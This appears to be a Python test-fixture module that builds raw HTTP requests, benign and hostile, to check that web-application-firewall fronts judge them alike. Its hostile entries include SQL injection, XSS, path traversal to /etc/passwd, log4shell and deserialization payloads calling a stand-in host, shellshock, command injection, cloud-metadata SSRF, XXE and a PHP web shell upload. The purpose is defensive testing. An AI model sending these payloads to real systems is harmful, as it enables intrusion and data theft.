"""Requests as bytes on the wire, benign and hostile, for fronts that must judge them alike."""

import base64
import gzip

BROWSER = [
    b"Host: {host}",
    b"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36",
    b"Accept: application/json",
    b"Accept-Language: ko-KR,ko;q=0.9,en;q=0.8",
]


def wire(target, *lines, method=b"GET", body=None, version=b"1.1", browser=BROWSER):
    """A request; a body brings its Content-Length."""
    lines = [*browser, *lines]
    if body is not None:
        lines.append(b"Content-Length: %d" % len(body))
    head = b"\r\n".join([b"%s %s HTTP/%s" % (method, target, version), *lines, b"Connection: close"])
    return head + b"\r\n\r\n" + (body or b"")


def post(body, kind=b"application/x-www-form-urlencoded", *lines, target=b"/post", method=b"POST"):
    return wire(target, b"Content-Type: " + kind, *lines, method=method, body=body)


def chunked(*parts, kind=b"application/x-www-form-urlencoded"):
    head = wire(b"/post", b"Content-Type: " + kind, b"Transfer-Encoding: chunked", method=b"POST")
    return head + b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (*parts, b""))


def multipart(name, content, filename=None):
    file = b'; filename="%s"\r\nContent-Type: text/plain' % filename if filename else b""
    part = b'--b0undary\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s\r\n' % (name, file, content)
    return post(part + b"--b0undary--\r\n", b"multipart/form-data; boundary=b0undary")


def without(*names):
    return [line for line in BROWSER if not line.lower().startswith(names)]


XSS = b"%3Cscript%3Ealert(document.cookie)%3C/script%3E"
SQLI = b"1%27%20or%20%271%27%3D%271%27--%20-"
JSON = b"application/json"

PATHS = {
    "home": wire(b"/"),
    "a page": wire(b"/products/shoes/running.html"),
    "encoded Korean": wire(b"/%ED%95%B4%EC%B9%98/%EC%86%8C%EA%B0%9C"),
    "a dot segment": wire(b"/a/../b/./c"),
    "traversal": wire(b"/static/../../../../etc/passwd"),
    "encoded traversal": wire(b"/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    "twice encoded traversal": wire(b"/static/%252e%252e%252f%252e%252e%252fetc/passwd"),
    "overlong dots": wire(b"/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    "backslashes": wire(b"/static/..\\..\\windows\\win.ini"),
    "double slashes": wire(b"//a///b"),
    "double slashes before a forbidden path": wire(b"//forbidden"),
    "a forbidden path": wire(b"/forbidden"),
    "a forbidden path, encoded": wire(b"/%66orbidden"),
    "a forbidden path in other case": wire(b"/FORBIDDEN"),
    "a forbidden path with parameters": wire(b"/forbidden;jsessionid=1"),
    "a forbidden path behind a dot": wire(b"/./forbidden"),
    "a forbidden path in an absolute target": wire(b"http://{host}/forbidden"),
    "an absolute target": wire(b"http://{host}/page?a=b"),
    "an absolute target without a path": wire(b"http://{host}"),
    "an administrator's page": wire(b"/admin/config.php"),
    "a hidden file": wire(b"/.env"),
    "a repository": wire(b"/.git/config"),
    "a session file": wire(b"/wp-admin/install.php"),
    "XSS in the path": wire(b"/" + XSS),
    "a null byte": wire(b"/a%00.php"),
    "a long path": wire(b"/" + b"a" * 4000),
    "a star": wire(b"*", method=b"OPTIONS"),
    "a challenge": wire(b"/challenged"),
    "a custom response": wire(b"/teapot"),
    "a captcha": wire(b"/puzzled"),
}

QUERIES = {
    "a search": wire(b"/search?q=red+shoes&page=2"),
    "a search in Korean": wire(b"/search?q=%EB%B9%A8%EA%B0%84+%EC%8B%A0%EB%B0%9C"),
    "an empty query": wire(b"/search?"),
    "two question marks": wire(b"/search?a=?b=?"),
    "XSS": wire(b"/search?q=" + XSS),
    "SQL injection": wire(b"/items?id=" + SQLI),
    "SQL injection with plusses": wire(b"/items?id=1+union+select+name,+pass+from+users--+-"),
    "SQL injection in comments": wire(b"/items?id=1/**/union/**/select/**/1,2,3"),
    "SQL injection in a name": wire(b"/items?1%27%20or%201%3D1--%20-=x"),
    "a file": wire(b"/download?file=../../../../etc/passwd"),
    "a remote file": wire(b"/download?file=http://192.0.2.1/shell.txt"),
    "metadata": wire(b"/fetch?url=http://169.254.169.254/latest/meta-data/"),
    "log4shell": wire(b"/?x=${jndi:ldap://192.0.2.1/a}"),
    "encoded log4shell": wire(b"/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"),
    "a command": wire(b"/ping?host=127.0.0.1;cat%20/etc/passwd"),
    "a null byte in an argument": wire(b"/?a=b%00c"),
    "a broken escape": wire(b"/?a=%zz%1&b=100%"),
    "a unicode escape": wire(b"/?q=%u003cscript%u003ealert(1)%u003c/script%u003e"),
    "the magic word, plain": wire(b"/?word=sesame"),
    "the magic word twice encoded": wire(b"/?word=%2573esame"),
    "the magic word in a second argument of the name": wire(b"/?word=a&word=sesame"),
    "the magic word in other case": wire(b"/?WORD=SESAME"),
    "the magic word after a semicolon": wire(b"/?a=b;word=sesame"),
    "a long query": wire(b"/?a=" + b"b" * 3000),
}

RAW_TARGETS = {
    "angle brackets": wire(b"/?q=<script>alert(1)</script>"),
    "quotes": wire(b"/items?id=1'or'1'='1'--"),
    "double quotes": wire(b'/?q="quoted"'),
    "braces": wire(b"/items/{id}?filter={a:[1,2]}"),
    "a pipe and a caret": wire(b"/?q=a|b^c`d"),
}

# HAProxy refuses these itself: bytes beyond ASCII, and a fragment.
RAW_TARGETS_OF_NGINX = {
    "raw UTF-8": wire("/해치?q=해치".encode()),
    "raw Latin-1": wire(b"/caf\xe9?q=\xff"),
    "raw overlong": wire(b"/static/\xc0\xae\xc0\xae/etc/passwd"),
}

HEADERS = {
    "a referrer": wire(b"/", b"Referer: https://search.example/?q=shoes"),
    "XSS in the referrer": wire(b"/", b"Referer: https://a.example/?q=<script>alert(1)</script>"),
    "log4shell in a header": wire(b"/", b"X-Api-Version: ${jndi:ldap://192.0.2.1/a}"),
    "shellshock": wire(b"/", b"X-Test: () { :;}; /bin/bash -c id"),
    "no user agent": wire(b"/", browser=without(b"user-agent")),
    "an empty user agent": wire(b"/", b"User-Agent:", browser=without(b"user-agent")),
    "a scanner": wire(b"/", b"User-Agent: sqlmap/1.7 (https://sqlmap.org)", browser=without(b"user-agent")),
    "nikto": wire(b"/", b"User-Agent: Nikto/2.5", browser=without(b"user-agent")),
    "a command-line client": wire(b"/", b"User-Agent: curl/8.5.0", browser=without(b"user-agent")),
    "no accept": wire(b"/", browser=without(b"accept")),
    "one header twice": wire(b"/", b"X-Word: plain", b"X-Word: sesame"),
    "a header in odd case": wire(b"/", b"x-WORD: sesame"),
    "blanks around a value": wire(b"/", b"X-Word:  \t sesame \t"),
    "an underscore in a name": wire(b"/", b"x_word: sesame"),
    "a dot in a name": wire(b"/", b"x.word: sesame"),
    "an empty header": wire(b"/", b"X-Empty:"),
    "bytes beyond ASCII in a value": wire(b"/", "X-Name: 해치".encode()),
    "Latin-1 in a value": wire(b"/", b"X-Name: caf\xe9"),
    "a forwarded client": wire(b"/", b"X-Forwarded-For: 203.0.113.66"),
    "two forwarded clients": wire(b"/", b"X-Forwarded-For: 203.0.113.7, 203.0.113.66"),
    "two forwarded headers": wire(b"/", b"X-Forwarded-For: 203.0.113.66", b"X-Forwarded-For: 203.0.113.7"),
    "a malformed forwarded client": wire(b"/", b"X-Forwarded-For: nonsense"),
    "headers of questions": wire(
        b"/forbidden", b"X-Original-URI: /", b"X-Original-Method: POST", b"X-Original-IP: 1.1.1.1"
    ),
    "headers of questions to a plain page": wire(b"/", b"X-Original-URI: /forbidden", b"X-Original-IP: 203.0.113.66"),
    "headers of forward questions": wire(b"/forbidden", b"X-Forwarded-Uri: /", b"X-Forwarded-Method: POST"),
    "a header of the verdict": wire(b"/", b"x-haechi-action: pass", b"x-haechi-web-acl: none"),
    "an inserted header": wire(b"/", b"x-amzn-waf-seen: forged"),
    "a long header": wire(b"/", b"X-Long: " + b"a" * 6000),
    "many headers": wire(b"/", *(b"X-Many-%d: %d" % (n, n) for n in range(70))),
    "the word in the last of many headers": wire(
        b"/", *(b"X-Many-%d: %d" % (n, n) for n in range(60)), b"X-Word: sesame"
    ),
    "basic credentials": wire(b"/", b"Authorization: Basic " + base64.b64encode(b"kim:secret")),
    "credentials with an injection": wire(b"/", b"Authorization: Basic " + base64.b64encode(b"' or 1=1-- -:x")),
    "a range": wire(b"/", b"Range: bytes=0-100"),
    "connection's options": wire(b"/", b"TE: trailers", b"Keep-Alive: timeout=5"),
    "an injection in TE": wire(b"/", b"TE: sesame"),
    "an injection in Keep-Alive": wire(b"/", b"Keep-Alive: sesame"),
    "an injection in Upgrade": wire(b"/", b"Upgrade: sesame"),
    "an injection in Proxy-Connection": wire(b"/", b"Proxy-Connection: sesame"),
    "a method in another header": wire(b"/", b"X-HTTP-Method-Override: DELETE"),
    "a host with a port": wire(b"/", b"Host: {host}:80", browser=without(b"host")),
    "a host in capitals": wire(b"/", b"Host: {HOST}", browser=without(b"host")),
    "HTTP/1.0": wire(b"/forbidden", version=b"1.0"),
    "HTTP/1.0, a plain page": wire(b"/", version=b"1.0"),
}

COOKIES = {
    "a session": wire(b"/", b"Cookie: session=4f1c2a9b8e7d; theme=dark; _ga=GA1.2.1234567890.1700000000"),
    "XSS": wire(b"/", b"Cookie: a=<script>alert(1)</script>"),
    "SQL injection": wire(b"/", b"Cookie: id=1' or '1'='1'-- -"),
    "the magic word": wire(b"/", b"Cookie: a=b; word=sesame; c=d"),
    "the magic word without blanks": wire(b"/", b"Cookie: a=b;word=sesame;c=d"),
    "the magic word in a second header": wire(b"/", b"Cookie: a=b", b"Cookie: word=sesame"),
    "the magic word in a first header": wire(b"/", b"Cookie: word=sesame", b"Cookie: a=b"),
    "the magic word quoted": wire(b"/", b'Cookie: word="sesame"'),
    "a long cookie": wire(b"/", b"Cookie: a=" + b"b" * 5000),
    "many cookies": wire(b"/", b"Cookie: " + b"; ".join(b"c%d=%d" % (n, n) for n in range(150))),
    "a nameless cookie": wire(b"/", b"Cookie: sesame; =x; ;"),
    "a forged token": wire(b"/challenged", b"Cookie: aws-waf-token=abcdef:x:y"),
}

METHODS = {
    method.decode(): wire(b"/", method=method)
    for method in (b"HEAD", b"DELETE", b"OPTIONS", b"PATCH", b"PUT", b"PROPFIND", b"PURGE")
}

BODIES = {
    "an empty one": post(b""),
    "a form": post(b"user=kim&password=secret"),
    "a form in Korean": post(b"name=%ED%95%B4%EC%B9%98&text=%EC%95%88%EB%85%95+%ED%95%98%EC%84%B8%EC%9A%94"),
    "XSS in a form": post(b"text=" + XSS),
    "SQL injection in a form": post(b"user=" + SQLI + b"&password=x"),
    "SQL injection in plain text": post(b"user=1' or '1'='1'-- -", b"text/plain"),
    "SQL injection without a type": wire(b"/post", method=b"POST", body=b"user=1' or '1'='1'-- -"),
    "a document": post(b'{"text": "a plain note", "tags": ["a", "b"], "n": 1.5}', JSON),
    "XSS in a document": post(b'{"text": "<script>alert(document.cookie)</script>"}', JSON),
    "escaped XSS in a document": post(b'{"text": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', JSON),
    "XSS in a key": post(b'{"<script>alert(1)</script>": 1}', JSON),
    "a broken document": post(b'{"text": "<script>alert(1)</script>"', JSON),
    "a document that is none": post(b"<script>alert(1)</script>", JSON),
    "the word in a document": post(b'{"a": {"word": "sesame"}}', JSON),
    "the word under another name": post(b'{"a": {"other": "sesame"}}', JSON),
    "a document of another type": post(
        b'{"text": "<script>alert(1)</script>"}', b"application/vnd.api+json; charset=utf-8"
    ),
    "XML": post(b"<?xml version='1.0'?><order><id>7</id></order>", b"application/xml"),
    "an external entity": post(
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', b"application/xml"
    ),
    "a field": multipart(b"note", b"a plain note"),
    "XSS in a field": multipart(b"note", b"<script>alert(1)</script>"),
    "a file": multipart(b"file", b"one\ntwo\n", b"notes.txt"),
    "PHP in a file": multipart(b"file", b"<?php system($_GET['c']); ?>", b"notes.php"),
    "bytes": post(bytes(range(256)) * 8, b"application/octet-stream"),
    "compressed": post(gzip.compress(b"user=1' or '1'='1'-- -", mtime=0), JSON, b"Content-Encoding: gzip"),
    "UTF-16": post("user=1' or '1'='1'-- -".encode("utf-16"), b"text/plain; charset=utf-16"),
    "in chunks": chunked(b"user=kim", b"&password=secret"),
    "SQL injection in chunks": chunked(b"user=1%27%20o", b"r%20%271%27%3D%271%27", b"--%20-"),
    "the word over two chunks": chunked(b"word=ses", b"ame"),
    "of 8,192 bytes": post(b"a=" + b"b" * 8190),
    "of 8,193 bytes": post(b"a=" + b"b" * 8191),
    "of 20,000 bytes": post(b"x" * 20_000, b"application/octet-stream"),
    "of 20,000 bytes in chunks": chunked(*[b"x" * 2000] * 10, kind=b"application/octet-stream"),
    "the word at the end of what is inspected": post(b"a=" + b"b" * 8174 + b"&word=sesame"),
    "the word beyond what is inspected": post(b"a=" + b"b" * 8190 + b"&word=sesame"),
    "with PUT": post(b"text=" + XSS, method=b"PUT"),
    "with PATCH": post(b'{"a": "<script>alert(1)</script>"}', JSON, method=b"PATCH"),
    "with DELETE": post(b"text=" + XSS, method=b"DELETE"),
    "an injection in the query of a form": post(b"a=b", target=b"/post?q=" + XSS),
    "of PHP": post(b"a=<?php system('id'); ?>"),
    "of a deserialization": post(
        b'{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://192.0.2.1/x"}', JSON
    ),
}
